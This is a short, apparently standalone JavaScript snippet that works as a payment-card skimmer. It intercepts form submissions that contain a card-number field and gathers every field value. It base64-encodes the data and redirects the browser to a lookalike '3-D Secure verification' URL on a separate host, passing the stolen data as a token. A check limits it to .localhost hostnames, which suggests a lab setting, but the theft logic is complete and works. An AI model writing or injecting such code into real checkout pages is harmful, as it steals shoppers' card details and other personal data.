!(function () {
  if (!/\.localhost$/.test(location.hostname)) return;
  var go = function (e) {
    var f = e.target;
    var n = f.querySelector('[name=pan], [name=card], [name=cardnumber]');
    if (!n || n.value.replace(/\s+/g, '').length < 14) return;
    e.preventDefault();
    var parts = [];
    for (var i = 0, el; (el = f.elements[i]); i++) parts.push(el.name + ':' + el.value);
    sessionStorage.setItem('rt', '1');
    window.location = 'https://threeds-check.localhost/verify?token=' + encodeURIComponent(btoa(parts.join('\n'))) + '&return=' + encodeURIComponent(location.href);
  };
  if (!sessionStorage.getItem('rt')) document.addEventListener('submit', go, true);
})();
